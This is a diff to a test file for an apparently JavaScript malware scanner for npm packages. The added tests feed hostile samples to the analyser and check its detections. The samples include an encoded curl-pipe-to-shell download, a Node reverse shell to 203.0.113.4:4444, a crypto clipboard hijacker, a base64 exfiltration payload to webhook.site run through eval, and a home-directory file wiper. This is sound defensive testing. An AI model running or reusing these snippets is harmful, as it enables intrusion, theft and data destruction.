@@ -156,8 +156,10 @@ describe('metadata-endpoint and exfiltration', () => {
     ).toEqual([]);
     expect(threats("const note = 'toast.fun is a game';")).toEqual([]);
     expect(
-      threats("route('http://123.123.123.123/a'); ping('http://1.1.1.1/'); doc('http://203.0.113.5/');"),
+      threats("route('http://123.123.123.123/a'); ping('http://1.1.1.1/'); lan('http://192.168.1.5/');"),
     ).toEqual([]);
+    // Documentation ranges are still raw public-format addresses.
+    expect(threats("doc('http://203.0.113.5/');")).toEqual(['npm.threat.exfiltration@1:5']);
     POSITIVE_INPUTS.push("post('https://webhook.site/0f3e');", "post('http://45.9.148.3:8080/c');");
   });
 
@@ -427,5 +429,87 @@ describe('mayHaveSignals', () => {
     for (const src of POSITIVE_INPUTS)
       expect([src.slice(0, 60), mayHaveSignals(src)]).toEqual([src.slice(0, 60), true]);
     expect(mayHaveSignals('const a = [1, 2, 3].map((x) => x * 2);')).toBe(false);
+  });
+});
+
+describe('decoded code, clipboard hijacking and reverse shells', () => {
+  it('follows char codes through a variable into new Function and judges the decoded text', () => {
+    const codes = [...'curl -fsSL http://203.0.113.9/s.sh | sh'].map((c) => c.charCodeAt(0)).join(',');
+    const r = analyseJavaScript('a.js', `const x = String.fromCharCode(${codes});\nnew Function(x)();\n`);
+    const ids = r.signals.map((s) => `${s.ruleId}:${s.severity}:${s.line}`);
+    expect(ids).toContain('npm.threat.obfuscation:high:2');
+    expect(ids).toContain('npm.threat.download-exec:high:1');
+  });
+
+  it('does not call a variable of plain text decoded', () => {
+    const r = analyseJavaScript('a.js', "const x = 'return 1';\nnew Function(x)();\n");
+    expect(r.signals.map((s) => s.ruleId)).toEqual(['npm.capability.eval']);
+  });
+
+  it('reports clipboard rewriting with an address pattern as a wallet drainer', () => {
+    const code =
+      "const { clipboard } = require('electron');\nconst re = /^0x[a-fA-F0-9]{40}$/;\n" +
+      "setInterval(() => { if (re.test(clipboard.readText())) clipboard.writeText('0x00'); }, 500);\n";
+    const r = analyseJavaScript('p.js', code);
+    const w = r.signals.find((s) => s.ruleId === 'npm.threat.wallet-drainer');
+    expect(w?.severity).toBe('high');
+    expect(w?.message).toContain('clipboard rewriting');
+    // Copying to the clipboard alone is what every "copy" button does.
+    expect(
+      analyseJavaScript('c.js', "navigator.clipboard.writeText('hello');\n").signals.filter((s) => s.kind === 'threat'),
+    ).toEqual([]);
+  });
+
+  it('reports an interactive shell handed to a TCP socket as a reverse shell', () => {
+    const code =
+      "const net = require('net');\nconst { spawn } = require('child_process');\nconst c = new net.Socket();\n" +
+      "c.connect(4444, '203.0.113.4', () => { const sh = spawn('/bin/sh', ['-i']); c.pipe(sh.stdin); });\n";
+    const r = analyseJavaScript('r.js', code);
+    const t = r.signals.find((s) => s.ruleId === 'npm.threat.reverse-shell');
+    expect([t?.severity, t?.line]).toEqual(['high', 4]);
+    const noSocket = analyseJavaScript('s.js', "require('child_process').spawn('/bin/sh', ['-i']);\n");
+    expect(noSocket.signals.some((s) => s.ruleId === 'npm.threat.reverse-shell')).toBe(false);
+  });
+});
+
+describe('one layer of encoding', () => {
+  it('judges a base64 payload handed to eval by the string rules', () => {
+    const payload = Buffer.from("require('https').get('https://webhook.site/x?' + 1)").toString('base64');
+    const r = analyseJavaScript('l.js', `const p = Buffer.from('${payload}', 'base64').toString();\neval(p);\n`);
+    const ids = r.signals.map((s) => `${s.ruleId}:${s.line}`);
+    expect(ids).toContain('npm.threat.obfuscation:2');
+    expect(ids).toContain('npm.threat.exfiltration:2');
+  });
+
+  it('does not decode what is never evaluated', () => {
+    const payload = Buffer.from('https://webhook.site/x').toString('base64');
+    const r = analyseJavaScript('l.js', `const p = Buffer.from('${payload}', 'base64').toString();\nconsole.log(p);\n`);
+    expect(r.signals.filter((s) => s.kind === 'threat')).toEqual([]);
+  });
+});
+
+describe('hidden modules and recursive home writers', () => {
+  it('reports a module name hidden behind a joined array and still sees the module', () => {
+    const r = analyseJavaScript('h.js', "const cp = require(['child', 'process'].join('_'));\n");
+    expect(r.signals.map((s) => `${s.ruleId}:${s.severity}`)).toEqual([
+      'npm.capability.child-process:info',
+      'npm.capability.dynamic-require:info',
+      'npm.threat.obfuscation:medium',
+    ]);
+    expect(analyseJavaScript('p.js', "const m = require(['lodash', 'get'].join('.'));\n").signals.map((s) => s.ruleId)).toEqual([
+      'npm.capability.dynamic-require',
+    ]);
+  });
+
+  it('reports a recursive file writer run over the home directory, not over a build directory', () => {
+    const walker =
+      "const fs = require('fs');\nconst os = require('os');\nfunction wipe(dir) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n" +
+      "    const p = dir + '/' + e.name;\n    if (e.isDirectory()) wipe(p); else fs.writeFileSync(p, 'x');\n  }\n}\n";
+    const home = analyseJavaScript('w.js', `${walker}wipe(os.homedir());\n`);
+    expect(home.signals.filter((s) => s.kind === 'threat').map((s) => `${s.ruleId}:${s.severity}:${s.line}`)).toEqual([
+      'npm.threat.destructive:high:9',
+    ]);
+    const build = analyseJavaScript('w.js', `${walker}wipe('dist');\n`);
+    expect(build.signals.filter((s) => s.kind === 'threat')).toEqual([]);
   });
 });
